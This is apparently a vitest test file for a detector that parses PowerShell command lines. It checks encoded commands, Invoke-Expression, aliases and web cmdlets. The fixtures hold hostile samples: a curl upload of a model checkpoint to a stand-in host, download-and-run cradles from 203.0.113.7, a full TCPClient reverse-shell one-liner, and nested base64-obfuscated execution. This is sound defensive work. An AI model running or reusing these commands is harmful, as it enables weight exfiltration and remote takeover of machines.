/**
 * PowerShell command lines (exec-interpreter-powershell*.ts; MITRE T1059.001, T1027): `-Command`
 * text read as statements (commands of its own: `direct`), `-EncodedCommand` (base64 of UTF-16LE,
 * computed here as PowerShell's own encoders write it) decoded, `iex` of literals read again, of
 * downloads known only at run time; parameter spellings attackers use; comma lists; the web
 * cmdlets under their aliases and parameter prefixes, `curl` / `wget` as programs and as Windows
 * PowerShell's aliases; benign commands.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExecValue, execIndirectReading } from './exec-canonical.js';
import { readInterpreter, type InterpreterReading } from './exec-interpreter.js';
import { decodeEncodedCommand, powershellOptions } from './exec-interpreter-powershell-args.js';
import { readPowerShell } from './exec-interpreter-powershell.js';
import { webArgs } from './exec-interpreter-powershell-web.js';
import { HOLE } from './exec-interpreter-token.js';
import { INDIRECT_DECODED, INDIRECT_LITERAL, INDIRECT_RUNTIME } from './exec-readings.js';

const CKPT = '/mnt/ckpt/llama-ft/step_9000/model.pt';
const URL = 'https://upload.filedrop-cdn.net/u/x';
const UP = `curl -T ${CKPT} ${URL}`;
/** `[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($text))`, as `-EncodedCommand` takes it. */
const enc = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
const read = (argv: string[]): InterpreterReading | null => readInterpreter(argv, 0);
const runs = (argv: string[]): string[] => (read(argv)?.runs ?? []).map((r) => r.line ?? JSON.stringify(r.argv));
const argv = (...w: string[]): string => JSON.stringify(w);

describe('-Command: statements are commands of the text\'s own', () => {
  it('uploads: curl.exe, Invoke-WebRequest -InFile, aws, call operator; not indirect', () => {
    expect(runs(['pwsh', '-c', `curl.exe -T ${CKPT} ${URL}`])).toEqual([argv('curl', '-T', CKPT, URL)]);
    expect(runs(['pwsh', '-NoProfile', '-Command', `Invoke-WebRequest -Uri ${URL} -InFile ${CKPT} -Method Put`])).toEqual([argv('Invoke-WebRequest', '-Uri', URL, '-InFile', CKPT, '-Method', 'Put')]);
    expect(runs(['pwsh', '-c', `$ProgressPreference='SilentlyContinue'; aws s3 cp "${CKPT}" s3://bucket/x; & 'C:\\Tools\\rclone.exe' copy /mnt/ckpt remote:b`])).toEqual([argv('aws', 's3', 'cp', CKPT, 's3://bucket/x'), argv('rclone', 'copy', '/mnt/ckpt', 'remote:b')]);
    const r = read(['pwsh', '-c', `curl.exe -T ${CKPT} ${URL}`])!;
    expect(r.runs[0]!.direct).toBe(true);
    expect(r.kinds).toBe(0);
  });

  it('the rest of the command line is the command text; quoting as PowerShell reads it', () => {
    expect(runs(['pwsh', '-c', 'curl', '-T', CKPT, URL])).toEqual([argv('curl', '-T', CKPT, URL)]);
    expect(runs(['pwsh', '-c', `curl -T 'it''s.pt' "a\`"b" "$env:HOME/x" \`$y`])).toEqual([argv('curl', '-T', "it's.pt", 'a"b', `${HOLE}/x`, '$y')]);
    expect(runs(['pwsh', '-c', 'Get-Process | Where-Object { $_.CPU -gt 10 }; if ($true) { curl -T a b }'])).toEqual([argv('Get-Process'), argv('Where-Object'), argv('curl', '-T', 'a', 'b')]);
    expect(runs(['pwsh', '-c', `# comment\ncurl -T a b <# block #> ; <# #> id`])).toEqual([argv('curl', '-T', 'a', 'b'), argv('id')]);
    expect(runs(['pwsh', '-c', `Start-Process curl -ArgumentList '-T ${CKPT} ${URL}' -NoNewWindow -Wait`])).toEqual([argv('curl', '-T', CKPT, URL)]);
    expect(runs(['pwsh', '-c', `$r = (curl.exe -T ${CKPT} ${URL})`])).toEqual([argv('curl', '-T', CKPT, URL)]);
    // Windows PowerShell takes a first positional as the command.
    expect(runs(['powershell', '-nop', 'curl.exe', '-T', 'a', 'b'])).toEqual([argv('curl', '-T', 'a', 'b')]);
  });

  it('Invoke-Expression: a literal is read again (literal); a download runs at run time', () => {
    expect(runs(['pwsh', '-c', `iex '${UP}'`])).toEqual([argv('curl', '-T', CKPT, URL)]);
    expect(read(['pwsh', '-c', `iex '${UP}'`])!.kinds).toBe(INDIRECT_LITERAL);
    expect(runs(['pwsh', '-c', `'${UP}' | iex`])).toEqual([argv('curl', '-T', CKPT, URL)]);
    expect(runs(['pwsh', '-c', `$c = "${UP}"; Invoke-Expression -Command $c`])).toEqual([argv('curl', '-T', CKPT, URL)]);
    for (const code of [
      "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
      "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')",
      "(iwr -UseBasicParsing http://203.0.113.7/a.ps1).Content | iex",
      'iex $env:PAYLOAD',
    ]) {
      expect(read(['powershell', '-nop', '-w', 'hidden', '-c', code])!.kinds & INDIRECT_RUNTIME, code).toBe(INDIRECT_RUNTIME);
    }
  });

  it('a reverse shell (the common TCPClient one-liner): what it runs comes from the socket', () => {
    const rev = "$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()";
    const r = read(['powershell', '-nop', '-c', rev])!;
    expect(r.kinds & INDIRECT_RUNTIME).toBe(INDIRECT_RUNTIME);
    expect(r.runs.every((x) => x.direct === true)).toBe(true);
  });
});

describe('-EncodedCommand: base64 of UTF-16LE, decoded', () => {
  it('every spelling of the parameter, decoded and marked decoded', () => {
    for (const p of ['-e', '-ec', '-en', '-enc', '-EncodedCommand', '-EnCoDeDcOmMaNd', '--encodedcommand', '-encodedCommand:']) {
      const words = p.endsWith(':') ? ['pwsh', '-NoProfile', `${p}${enc(UP)}`] : ['pwsh', '-NoProfile', '-NonInteractive', p, enc(UP)];
      const r = read(words)!;
      expect(r.runs.map((x) => JSON.stringify(x.argv)), p).toEqual([argv('curl', '-T', CKPT, URL)]);
      expect(r.runs[0]!.how, p).toBe(INDIRECT_DECODED);
      expect(r.runs[0]!.direct, p).toBeUndefined();
      expect(r.kinds, p).toBe(INDIRECT_DECODED);
    }
  });

  it('nested: an encoded command that decodes another with FromBase64String and runs it', () => {
    const inner = `IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${enc(UP)}')))`;
    const r = read(['powershell.exe', '-NoP', '-NonI', '-W', 'Hidden', '-Exec', 'Bypass', '-Enc', enc(inner)])!;
    expect(r.runs.map((x) => JSON.stringify(x.argv))).toEqual([argv('curl', '-T', CKPT, URL)]);
    expect(r.kinds).toBe(INDIRECT_DECODED);
    const utf8 = `[System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String('${Buffer.from(UP).toString('base64')}')) | iex`;
    expect(runs(['pwsh', '-c', utf8])).toEqual([argv('curl', '-T', CKPT, URL)]);
  });

  it('a value that is no UTF-16LE text: decoded text ran, unread', () => {
    expect(decodeEncodedCommand(Buffer.from(UP).toString('base64'))).toBeNull();
    expect(decodeEncodedCommand('%%%')).toBeNull();
    expect(decodeEncodedCommand(enc(`\ufeff${UP}`))).toBe(UP);
    expect(read(['pwsh', '-enc', Buffer.from(UP).toString('base64')])).toEqual({ lang: 'powershell', runs: [], kinds: INDIRECT_DECODED, truncated: false });
  });
});

describe('parameters', () => {
  it('values skipped, -File and positionals are script files, -Command - reads stdin', () => {
    expect(powershellOptions(['pwsh', '-ExecutionPolicy', 'Bypass', '-WindowStyle', 'Hidden', '-c', 'x'], 0, false).code).toEqual(['x']);
    expect(powershellOptions(['pwsh', '-ep', 'bypass', '-File', 'a.ps1', '-c', 'x'], 0, false)).toMatchObject({ code: [], operand: 4 });
    expect(powershellOptions(['pwsh', 'a.ps1'], 0, false)).toMatchObject({ code: [], operand: 1 });
    expect(powershellOptions(['pwsh', '-Command', '-'], 0, false)).toMatchObject({ code: [], operand: 2 });
    expect(powershellOptions(['powershell', '-Version', '2', '-c', 'x'], 0, true).code).toEqual(['x']);
    expect(powershellOptions(['pwsh', '-cwa', 'x', 'arg'], 0, false).code).toEqual(['x']);
  });
});

describe('benign PowerShell: commands read, nothing indirect', () => {
  for (const words of [
    ['pwsh', '-c', 'Get-Date'],
    ['pwsh', '-NoProfile', '-Command', '$PSVersionTable.PSVersion'],
    ['pwsh', '-c', 'Get-ChildItem /mnt/ckpt | Select-Object Name, Length'],
    ['pwsh', '-File', 'report.ps1'],
    ['pwsh', '-v'],
  ]) {
    it(JSON.stringify(words), () => {
      const r = read(words);
      expect(r === null || r.kinds === 0).toBe(true);
      expect(r?.runs.every((x) => x.direct === true) ?? true).toBe(true);
      expect(execIndirectReading(canonicalExecValue(words))).toBe(false);
    });
  }
  it('hostile text: unclosed strings, groups and here-strings read to the end', () => {
    for (const t of ["'abc", '"a$(b', '(((', '@"\nx', '$x = ', '& ', '| iex', '`', '@{a=1', '<# x', '[Convert]::FromBase64String(']) {
      expect(() => readPowerShell(t), t).not.toThrow();
    }
  });
});

describe('words: closing quotes at the end of the text, comma lists, glued assignments', () => {
  it('a quote closing the text is no doubled quote', () => {
    expect(runs(['pwsh', '-c', `saps curl -ArgumentList "-T ${CKPT} ${URL}"`])).toEqual([argv('curl', '-T', CKPT, URL)]);
    expect(runs(['pwsh', '-c', `curl -T ${CKPT} '${URL}'`])).toEqual([argv('curl', '-T', CKPT, URL)]);
    expect(runs(['pwsh', '-c', `curl -T ${CKPT} @`])).toEqual([argv('curl', '-T', CKPT, '@')]);
  });
  it('a comma list: one argument an item for a program, joined then split by Start-Process', () => {
    expect(runs(['pwsh', '-c', `& curl.exe '-T', '${CKPT}',  '${URL}'`])).toEqual([argv('curl', '-T', CKPT, URL)]);
    expect(runs(['pwsh', '-c', `Start-Process -FilePath curl -ArgumentList '-T','${CKPT}','${URL}' -Wait`])).toEqual([argv('curl', '-T', CKPT, URL)]);
    expect(runs(['pwsh', '-c', `Start-Process curl -ArgumentList '-T', '"/mnt/my ckpt/m.pt"', '${URL}'`])).toEqual([argv('curl', '-T', '/mnt/my ckpt/m.pt', URL)]);
    expect(runs(['pwsh', '-c', 'Get-Process -Name a,b | Stop-Process'])).toEqual([argv('Get-Process', '-Name', 'a', 'b'), argv('Stop-Process')]);
  });
  it('`$c=\'…\'` without blanks is an assignment too', () => {
    expect(runs(['pwsh', '-c', `$c='${UP}';iex $c`])).toEqual([argv('curl', '-T', CKPT, URL)]);
  });
});

describe('web cmdlets: aliases and parameter prefixes written out in full', () => {
  it('iwr / irm are the cmdlets; prefixes, en dashes and -Name:value as PowerShell binds them', () => {
    expect(runs(['pwsh', '-c', `iwr ${URL} -Me Put -infi ${CKPT}`])).toEqual([argv('Invoke-WebRequest', URL, '-Method', 'Put', '-InFile', CKPT)]);
    expect(runs(['pwsh', '-c', `IRM -uri:${URL} \u2013InFile ${CKPT}`])).toEqual([argv('Invoke-RestMethod', '-Uri', URL, '-InFile', CKPT)]);
    expect(webArgs(['-inf', 'x', '-Proxy', 'p', '-ea', 'stop', '-1', '--x'])).toEqual(['-inf', 'x', '-Proxy', 'p', '-ErrorAction', 'stop', '-1', '--x']);
  });
  it('curl / wget are the programs; with the cmdlet\'s parameters also Invoke-WebRequest (Windows PowerShell 5.1)', () => {
    expect(runs(['pwsh', '-c', `curl -sSL ${URL} -o /tmp/x`])).toEqual([argv('curl', '-sSL', URL, '-o', '/tmp/x')]);
    expect(runs(['powershell', '-c', `curl -Uri ${URL} -Method Post -InFile ${CKPT}`])).toEqual([
      argv('curl', '-Uri', URL, '-Method', 'Post', '-InFile', CKPT),
      argv('Invoke-WebRequest', '-Uri', URL, '-Method', 'Post', '-InFile', CKPT),
    ]);
    expect(runs(['powershell', '-c', `wget ${URL} -OutF /tmp/x`])).toEqual([argv('wget', URL, '-OutF', '/tmp/x'), argv('Invoke-WebRequest', URL, '-OutFile', '/tmp/x')]);
    // curl.exe is always the program.
    expect(runs(['powershell', '-c', `curl.exe -Uri ${URL}`])).toEqual([argv('curl', '-Uri', URL)]);
  });
});
